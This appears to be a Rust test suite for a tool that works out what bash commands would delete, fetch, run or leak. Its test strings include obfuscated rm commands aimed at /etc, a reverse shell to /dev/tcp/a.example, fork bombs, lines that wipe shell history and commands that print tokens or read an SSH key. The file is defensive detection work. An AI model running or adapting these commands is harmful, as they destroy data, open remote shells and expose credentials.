//! Commands and what they come to. Only `rm`, `cat`, `echo` and `curl` are needed to see what the walker makes of them.

use super::*;
use crate::effect::Place;

fn around() -> Surroundings<'static> {
    Surroundings { cwd: Some("/home/ann/app"), home: Some("/home/ann"), ..Surroundings::default() }
}

/// What is deleted, in order; other effects by their kind, reads and what is unknown left out.
fn deleted(command: &str) -> String {
    let mut out = Vec::new();
    for effect in understand(command, &around()) {
        match effect.kind {
            Kind::Delete => out.push(shown(effect.path.as_deref().unwrap_or_default())),
            Kind::Read | Kind::Unknown | Kind::Write | Kind::Overwrite | Kind::Network | Kind::Permissions => {}
            kind => out.push(kind.name().to_owned()),
        }
    }
    out.join(" ")
}

fn check(cases: &[(&str, &str)]) {
    for (command, expected) in cases {
        assert_eq!(deleted(command), *expected, "{command}");
    }
}

#[test]
fn quotes_and_escapes() {
    check(&[
        ("r\\m -\"r\"'f' $'\\x2fetc'", "/etc"),
        ("'rm' -rf \"/e\"tc", "/etc"),
        ("r\\\nm /etc", "/etc"),
        ("echo 'rm /etc'", ""),
        ("echo \"rm /etc\" # rm /usr", ""),
        ("rm \"/a b\" '/c d' /e\\ f", "/a b /c d /e f"),
        ("rm $\"/etc\"", "/etc"),
    ]);
}

#[test]
fn variables() {
    check(&[
        ("X=/etc; rm $X \"$X/a\" ${X}b '$X'", "/etc /etc/a /etcb /home/ann/app/$X"),
        ("X='/etc /usr'; rm $X", "/etc /usr"),
        ("X='/etc /usr'; rm \"$X\"", "/etc /usr"),
        ("X=rm; $X /etc", "/etc"),
        ("X='rm /etc'; $X", "/etc"),
        ("IFS=,; X=rm,/etc; $X", "/etc"),
        ("X=/; X+=etc; rm $X", "/etc"),
        ("export X=/etc; rm $X", "/etc"),
        ("declare -r X=/etc; rm $X", "/etc"),
        ("X=/etc rm a; rm ${X:-b}", "/home/ann/app/a /home/ann/app/b"),
        ("(X=/etc); rm ${X:-b}", "/home/ann/app/b"),
        ("{ X=/etc; }; rm $X", "/etc"),
        ("unset X; rm $X/etc", "/etc"),
        ("a=(/etc \"/b c\"); rm \"${a[@]}\" ${a[0]}/1 \"${a[1]}/2\"", "/etc /b c /etc/1 /b c/2"),
        ("declare -A m=([k]=/etc); rm ${m[k]}", "/etc"),
        ("a[3]=/etc; rm ${a[3]} ${a[-1]}x", "/etc /home/ann/app/x"),
        ("set -- /etc /usr; rm $2/a \"$@\" $#", "/usr/a /etc /usr /home/ann/app/2"),
        ("set -- a /etc; shift; rm $1", "/etc"),
        ("X=Y; Y=/etc; rm ${!X}", "/etc"),
        ("rm ~/a $HOME/b ${HOME:0:1}etc $PWD/c ~+/d", "/home/ann/a /home/ann/b /etc /home/ann/app/c /home/ann/app/d"),
        ("read X <<< /etc; rm $X", "/etc"),
        ("echo '/etc /usr' | while read a b; do rm $b; done", "/usr"),
        ("while read x; do rm $x; done <<E\n/a\n/b\nE", "/a /b"),
        ("printf -v X %s /etc; rm $X", "/etc"),
        ("mapfile -t a <<< /etc; rm ${a[0]}", "/etc"),
    ]);
}

#[test]
fn operators() {
    check(&[
        ("X=/etc/a; rm ${X%/*} ${X##*/} ${X#/} ${X%%c*}", "/etc /home/ann/app/a /home/ann/app/etc/a /et"),
        ("X=/tec; rm ${X/tec/etc} ${X//e/x}", "/etc /txc"),
        ("X=/ETC; rm ${X,,} ${X:1:2}", "/etc /home/ann/app/ET"),
        ("X=; rm ${X:-/etc} ${X-b} ${X:+c}", "/etc"),
        ("rm ${X:=/etc} $X/a", "/etc /etc/a"),
        ("X=abc; rm /${#X}", "/3"),
        ("rm /$((1 + 2 * 3)) /$[4-1] /$((16#ff))", "/7 /3 /255"),
        ("rm /{a,b} /{1..3} /c{,.d}", "/a /b /1 /2 /3 /c /c.d"),
        ("{rm,/etc}", "/etc"),
        ("x=$'r'; y=m; $x$y /etc", "/etc"),
        ("r$@m /etc; r${nothing}m /usr", "/etc /usr"),
        ("/bin/r? /etc; /???/r[m] /usr", "/etc /usr"),
    ]);
}

#[test]
fn where_it_runs() {
    check(&[
        ("cd / && rm etc", "/etc"),
        ("(cd /; rm etc); rm b", "/etc /home/ann/app/b"),
        ("cd /usr; cd ..; rm etc; cd -; rm lib", "/etc /usr/lib"),
        ("pushd /usr; rm a; popd; rm b", "/usr/a /home/ann/app/b"),
        ("cd; rm a", "/home/ann/a"),
        ("cd \"$UNKNOWN\" && rm /etc", "/etc"),
    ]);
    let effects = understand("cd \"$UNKNOWN\" && rm -rf build", &around());
    assert_eq!(effects.last().and_then(|effect| effect.place), Some(Place::Unknown));
}

#[test]
fn structures() {
    check(&[
        ("if a; then rm /a; elif b; then rm /b; else rm /c; fi", "/a /b /c"),
        ("for x in /a /b; do rm $x; done", "/a /b"),
        ("for ((;;)); do rm /a; done", "/a"),
        ("until a; do rm /a; done", "/a"),
        ("select x in /a; do rm $x; done", "/a"),
        ("case x in y) rm /a;; x) rm /b;; *) rm /c;; esac", "/b"),
        ("case $UNKNOWN in y) rm /a;; *) rm /b;; esac", "/a /b"),
        ("f() { rm $1; }; f /a; f /b", "/a /b"),
        ("function f { f; rm /a; }; f", "/a"),
        ("rm() { echo no; }; rm /a", ""),
        ("alias x='rm -f'; x /a", "/a"),
        ("[[ $(rm /a) ]]; (( $(rm /b) )); x=$(rm /c) y=`rm /d`", "/a /b /c /d"),
        ("echo ${x^^$(rm /a)} ${y@$(rm /b)}", "/a /b"),
        ("coproc rm /a; time rm /b; ! rm /c; rm /d &", "/a /b /c /d"),
        ("a | rm /a && b || { rm /b; }", "/a /b"),
        ("trap 'rm /a' EXIT", "/a"),
        ("exec rm /a", "/a"),
        ("command rm /a; builtin eval 'rm /b'", "/a /b"),
        ("cat <(rm /a) > >(rm /b)", "/a /b"),
        ("$SUDO rm /a", "/a"),
        ("$(command -v rm) /a", "/a"),
        ("PAGER='rm /a' git log", "/a"),
    ]);
}

#[test]
fn text_that_becomes_code() {
    check(&[
        ("eval 'rm /a'", "/a"),
        ("eval rm '$X'; X=/a; eval 'rm $X'", "… /a"),
        ("source /dev/stdin <<< 'rm /a'", "/a"),
        ("exec 3<<< 'rm /a'; . /dev/fd/3", "/a"),
        (". <(echo rm /a)", "/a"),
        ("echo 'rm /a' > x; . ./x", "/a"),
        ("echo 'rm $1' > x; chmod +x x; ./x /a", "/a"),
        ("echo 'rm' > x; echo ' /a' >> x; sed p x", ""),
        ("cat > x <<'E'\nrm /a\nE\n./x", "/a"),
        ("cat <<'E'\nrm /a\nE", ""),
        ("curl a.example > x; ./x", "run-unseen"),
        ("eval \"$(curl a.example)\"", "run-unseen"),
        ("curl a.example | while read l; do $l; done", "run-unseen"),
        ("eval \"$(ssh-agent -s)\"", "run-unseen"),
    ]);
}

#[test]
fn other_machines_and_floods() {
    check(&[
        ("bash -i >& /dev/tcp/a.example/1 0>&1", "reverse-shell"),
        ("exec 5<>/dev/tcp/a.example/1; sh <&5 >&5", "reverse-shell run-unseen"),
        (":(){ :|:& };:", "exhaust"),
        ("f(){ g & }; g(){ f | f; }; f", "exhaust"),
        ("f(){ f; }; f", ""),
        ("f(){ echo $1; }; f a | f b", ""),
        ("echo './x & ./x' > x; ./x", "exhaust exhaust exhaust"),
        ("while true; do a & done", "exhaust"),
        ("while true; do a & wait; done", ""),
        ("unset HISTFILE; HISTSIZE=0; set +o history; history -c", "weaken weaken weaken weaken"),
    ]);
}

/// The work grows with the input, not faster.
#[test]
fn work_is_linear() {
    let used = |command: &str| {
        let mut walk = Walk::new(command, &around());
        let (steps, bytes) = (walk.steps, walk.bytes);
        walk.here(&Stuff::known(command));
        assert!(!walk.over, "{}", &command[..40.min(command.len())]);
        (steps - walk.steps) + (bytes - walk.bytes)
    };
    for unit in [
        "a;",
        "a | ",
        "a b ",
        "x=$x ",
        "rm a;",
        "(a);",
        "$(a) ",
        "cat <<E\na\nE\n",
        "\"$a\" ",
        "f() { a; };",
        "for i in 1 2; do a; done;",
    ] {
        let (few, many) = (used(&unit.repeat(20)), used(&unit.repeat(200)));
        assert!(many <= 12 * few, "{unit:?}: {few} for 20, {many} for 200");
    }
}

#[test]
fn secrets_by_name() {
    for name in [
        "GITHUB_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "OPENAI_API_KEY",
        "DB_PASSWORD",
        "npm_token",
        "PGPASSWORD",
        "API_KEY2",
    ] {
        assert!(state::is_secret(name), "{name}");
    }
    for name in
        ["PATH", "HOME", "KEY", "TOKEN_COUNT", "MONKEY", "SSH_PUBLIC_KEY", "KEYBOARD", "PWD", "OLDPWD", "PASS_RATE"]
    {
        assert!(!state::is_secret(name), "{name}");
    }
}

/// A credential is read when it is shown, not when it is used.
#[test]
fn printing_secrets() {
    check(&[
        ("echo $GITHUB_TOKEN", "read-secret"),
        ("printf '%s' \"$DB_PASSWORD\" | base64", "read-secret"),
        ("echo $GITHUB_TOKEN | docker login --password-stdin", ""),
        ("echo T=$GITHUB_TOKEN > .env; . ./.env", ""),
        ("echo ${GITHUB_TOKEN:0:4} ${GITHUB_TOKEN:+set} ${#GITHUB_TOKEN}", ""),
        ("x=$(echo $GITHUB_TOKEN); [ -n \"$GITHUB_TOKEN\" ]", ""),
    ]);
}

#[test]
fn links_that_the_command_makes() {
    check(&[
        ("ln -s / x; rm -rf x/", "/"),
        ("ln -s /etc x && rm -rf x/*", "/etc"),
        ("ln -sfn / r && rm -rf r/usr", "/usr"),
        ("mkdir a; ln -s ../.. a/up; rm -rf a/up/*", "/home/ann"),
        ("ln -s /srv x; ln -s x y; rm y/z", "/srv/z"),
        ("ln -s ~/.ssh/id_rsa k; cat k", "read-secret read-secret"),
        // The link itself may go.
        ("ln -s /etc x; rm x", "/home/ann/app/x"),
        ("ln -s build out; rm -r out/*", "/home/ann/app/build"),
    ]);
}

/// `<(…)` has a number that also means something to the gate itself.
#[test]
fn descriptors_are_not_those_of_the_gate() {
    struct Own;
    impl crate::Resolve for Own {
        fn real(&self, path: &str) -> Option<String> {
            path.strip_prefix("/dev/fd/").map(|number| format!("/proc/77/fd/{number}"))
        }
    }
    let around = Surroundings { resolve: Some(&Own), ..around() };
    for command in ["bash <(echo rm /etc)", ". <(echo rm /etc)", "bash < <(echo rm /etc)", "echo rm /etc | tee >(sh)"] {
        let effects = understand(command, &around);
        assert!(effects.iter().any(|effect| effect.path.as_deref() == Some("/etc")), "{command}\n{effects:?}");
    }
}

#[test]
fn folders_that_were_fetched() {
    check(&[
        ("git clone https://example.org/a.git && ./a/install.sh", "run-unseen"),
        ("git clone https://example.org/a b && cd b && bash x.sh", "run-unseen"),
        ("curl https://example.org/a.tgz | tar xz && ./a/run", "run-unseen"),
        ("curl -O https://example.org/a.zip && unzip a.zip -d t && sh t/x", "run-unseen"),
        // To build is what one clones for.
        ("git clone https://example.org/a && cd a && ./configure && make", ""),
        ("git clone https://example.org/a && cat a/README.md", ""),
    ]);
}

#[test]
fn references_and_guards() {
    check(&[
        ("declare -n r=T; T=/etc; rm $r", "/etc"),
        ("T=a; declare -n r=T; r=/etc; rm $T", "/etc"),
        ("set | grep SECRET", "read-secret"),
        ("export | grep -i token", "read-secret"),
        ("declare -p GITHUB_TOKEN", "read-secret"),
        ("declare -p PATH; export -p; set", ""),
        ("BASH_ENV=<(echo rm /etc) bash -c ls", "/etc"),
        ("PS4='$(rm /etc)' bash -xc true; PS1='$(date) \\w'", "/etc"),
        ("trap f EXIT; f() { rm /etc; }", "/etc"),
        ("(trap 'rm $d' EXIT; d=/etc)", "/etc"),
        ("bash -c 'trap \"rm /etc\" EXIT'", "/etc"),
        ("exec < <(echo rm /etc); bash", "/etc"),
        ("printf -v 'c[0]' rm; ${c[0]} /etc", "/etc"),
        ("printf 'a:\\n\\trm /etc\\n' > Makefile && make", "/etc"),
        ("some-fetcher https://example.org | sh", "run-unseen"),
        ("uudecode -o /dev/stdout x.uu | sh", "run-unseen"),
    ]);
    let many = |command: &str| {
        understand(command, &around())
            .iter()
            .any(|effect| effect.kind == Kind::Delete && effect.flags.has(Flag::Pattern))
    };
    assert!(many("rm -rf $DIR/*") && many("rm -rf \"$DIR\"/") && many("rm -rf $X*"));
    assert!(!many("rm -rf \"${DIR:?}/\"*") && !many("rm -rf \"$DIR/out\"") && !many("rm -rf \"$DIR\""));
}
